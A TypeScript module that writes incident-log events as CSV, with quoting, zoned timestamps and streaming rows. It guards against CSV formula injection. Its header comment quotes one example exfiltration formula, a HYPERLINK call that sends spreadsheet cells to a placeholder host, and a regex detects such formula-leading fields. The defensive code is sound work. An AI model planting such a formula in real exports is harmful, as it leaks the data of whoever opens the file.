// Every event as CSV (RFC 4180: CRLF line ends, fields quoted when they hold `"`, `,`, CR or LF,
// quotes doubled; UTF-8 without BOM, which the caller encodes). The text is data, kept as the log
// wrote it, except for one defence: spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a
// formula (and some strip a leading tab or CR first), so such a field gets a leading `'`, as the
// OWASP advice on CSV injection says. A log line like `=HYPERLINK("http://x/?"&A1)` then shows as
// text instead of sending the sheet's cells away when the file is opened.
import type { IncidentEvent } from '../incident.ts';
import { stageTitle } from './report-model.ts';
import { formatIn, type TimeZoneChoice, toEpochMs, withZone } from './time.ts';

const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** One field: neutralised if a spreadsheet would read it as a formula, then quoted when needed. */
export function csvField(value: string): string {
  const safe = FORMULA_START.test(value) ? `'${value}` : value;
  return NEEDS_QUOTES.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

/**
 * `2019-11-12 18:14:03.441308`: the time in the zone, to the precision of the ISO string. Zone
 * formatting is slow (Intl), and loop lines come hundreds to the second, so each second's wall time
 * is kept for the next line.
 */
function zonedTimes(display: TimeZoneChoice): (ts: string | null) => string {
  const seconds = new Map<number, string>();
  return (ts) => {
    const ms = toEpochMs(ts);
    if (ts === null || ms === null) return '';
    const second = Math.floor(ms / 1000);
    let wall = seconds.get(second);
    if (wall === undefined) {
      if (seconds.size >= 4096) seconds.clear();
      wall = formatIn(second * 1000, display);
      seconds.set(second, wall);
    }
    const fraction = /\.(\d+)(?:Z|[+-]\d\d:?\d\d)$/.exec(ts)?.[1];
    return fraction ? `${wall}.${fraction}` : wall;
  };
}

/** The header row's names, with the zoned time column only when the display is not UTC. */
export function csvColumns(display: TimeZoneChoice): string[] {
  return [
    'time_utc',
    ...(display.mode === 'utc' ? [] : [withZone('time', display)]),
    'host',
    'stage',
    'stage_title',
    'kind',
    'recovery',
    'severity',
    'episode',
    'source',
    'line',
    'stamp',
    'text',
    'also_in',
  ];
}

function rowOf(e: IncidentEvent, zoned: ((ts: string | null) => string) | null): string[] {
  return [
    e.ts ?? '',
    ...(zoned === null ? [] : [zoned(e.ts)]),
    e.host,
    e.stage,
    stageTitle(e.stage),
    e.kind,
    e.recovery ? 'true' : 'false',
    e.severity,
    e.episode ?? '',
    e.source,
    String(e.line),
    e.stamp,
    e.text,
    e.alsoIn.map((c) => `${c.source}:${c.line}`).join('; '),
  ];
}

/**
 * The CSV a record at a time, each ending in CRLF, header first: a million events can be written to a
 * stream without one string of hundreds of megabytes.
 */
export function* eventsCsvRows(
  events: readonly IncidentEvent[],
  options: { display: TimeZoneChoice },
): Generator<string> {
  yield `${csvColumns(options.display).map(csvField).join(',')}\r\n`;
  const zoned = options.display.mode === 'utc' ? null : zonedTimes(options.display);
  for (const e of events) yield `${rowOf(e, zoned).map(csvField).join(',')}\r\n`;
}

export function eventsCsv(events: readonly IncidentEvent[], options: { display: TimeZoneChoice }): string {
  return [...eventsCsvRows(events, options)].join('');
}
